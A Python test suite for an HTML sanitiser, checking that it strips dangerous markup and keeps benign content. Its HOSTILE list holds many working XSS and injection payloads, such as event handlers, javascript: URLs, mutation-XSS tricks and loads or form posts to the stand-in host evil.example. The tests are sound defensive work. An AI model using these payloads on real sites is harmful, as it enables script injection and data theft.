"""The second wall: nothing that runs, fetches or hides gets through; nothing honest is lost."""

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lanpya.site.sanitiser import sanitise
from tests.site.inert import find_dangers

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '<img src="x` `" onerror=alert(1)//">',
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1)>x</p>",
    "<h2 id=a onclick=alert(1)>x</h2>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAscript&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "<a href=vbscript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=x target=_blank ping=https://evil.example/>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table style='background:url(https://evil.example/x)'><tr><td>x</table>",
    "<table background=https://evil.example/x><tr><td>x</table>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src='/\\evil.example/x.png'>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='\t//evil.example/x.png'>",
    "<img src='/\t/evil.example/x.png'>",
    "<img src=https:evil.example>",
    "<img src=data:image/svg+xml,x>",
    "<img src=x.png srcset='https://evil.example/x.png 2x'>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<video src=https://evil.example/x poster=https://evil.example/y></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<form action=https://evil.example/><input name=phone><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    "<p hidden>x</p>",
    "<p contenteditable tabindex=1 accesskey=x>x</p>",
    "<div tabindex=1>x</div>",
    "<img name=currentScript src=x>",
    "<p is=x-y slot=z>x</p>",
    "<html><head><title>x</title></head><body onload=alert(1)>x</body></html>",
    "<!--><script>alert(1)</script>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=x></frameset><svg/onload=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</script><svg/onload=alert(1)>",
    "<x-element onclick=alert(1)>x</x-element>",
]
BENIGN = """
<h2 id="a">A</h2><h3 id="b">B</h3><h4 id="c">C</h4>
<p>Text with <strong>strong</strong>, <em>em</em>, <code>code</code>, <kbd>kbd</kbd>,
<del>del</del>, <ins>ins</ins>, <sub>1</sub>, <sup>2</sup>, <abbr>UN</abbr>, <q>q</q>,
<s>s</s><br><span class="nb">2 million</span> &lt;b&gt; &amp;</p>
<p><a href="other.html" title="t">a</a>
<a class="out" href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">b</a>
<a href="mailto:a@x.example">c</a> <a href="#a">d</a></p>
<ul><li>1<ul><li>2</li></ul></li></ul>
<ol start="3"><li>3</li></ol>
<blockquote><p>Quoted.</p></blockquote>
<pre tabindex="0"><code>a &lt; b
</code></pre>
<dl><dt>Term</dt><dd>Meaning</dd></dl>
<div class="scroll" tabindex="0">
<table><caption>C</caption><thead><tr><th align="right" scope="col">h</th></tr></thead>
<tbody><tr><td align="center" colspan="2" rowspan="1">c</td></tr></tbody></table></div>
<figure><img alt="A road" decoding="async" height="2" loading="lazy" src="../assets/road.webp"
title="t" width="3"><figcaption>A road</figcaption></figure>
<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>
<p>x<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>
<div class="footnote"><hr><ol><li id="fn:1"><p>f
<a class="footnote-backref" href="#fnref:1" title="Back">↩</a></p></li></ol></div>
<p>လမ်းပြ <span class="nb">၂ သန်း</span></p>
"""


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_made_harmless(html: str) -> None:
    assert find_dangers(html), "the vector would prove nothing"
    assert find_dangers(sanitise(html)) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_among_honest_text_is_made_harmless(html: str) -> None:
    cleaned = sanitise(f"<p>before</p><ul><li>{html}</ul><p>after</p>")
    assert find_dangers(cleaned) == []
    assert cleaned.startswith("<p>before</p>")


def test_what_scripts_and_styles_hold_is_not_left_as_text() -> None:
    assert sanitise("a<script>steal()</script><style>p{color:red}</style>b") == "ab"


@pytest.mark.parametrize(
    "html",
    [
        "<!-- who wrote this -->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<?php echo 1 ?>",
        "<!doctype html>",
    ],
)
def test_comments_are_not_kept(html: str) -> None:
    assert sanitise(f"<p>a</p>{html}") == "<p>a</p>"


def test_benign_html_loses_nothing() -> None:
    assert _tree(sanitise(BENIGN)) == _tree(BENIGN)


def _tree(html: str) -> str:
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    text: str = html5lib.serialize(fragment, alphabetical_attributes=True)
    return text


@pytest.mark.parametrize("tag", ["div", "p", "span", "a", "table", "li"])
def test_classes_of_the_theme_can_not_be_borrowed(tag: str) -> None:
    assert "exit" not in sanitise(f'<{tag} class="exit skip top">x</{tag}>')


@pytest.mark.parametrize("tag", ["p", "div", "span", "img", "table"])
def test_ids_stand_on_headings_and_footnotes_only(tag: str) -> None:
    assert "id=" not in sanitise(f'<{tag} id="search">')


pieces = st.sampled_from(
    [*HOSTILE, *"<>/\"'= &;#:`\x00\t\n\\", "<a href=", "<img src=", "javascript:", "</", "-->", "x"]
)


@given(st.lists(pieces, max_size=12).map("".join))
@example("<math><mi//xlink:href='data:x,<script>alert(4)</script>'>")
def test_sanitised_html_is_harmless_whatever_it_was(html: str) -> None:
    cleaned = sanitise(html)
    assert find_dangers(cleaned) == []
    assert sanitise(cleaned) == cleaned
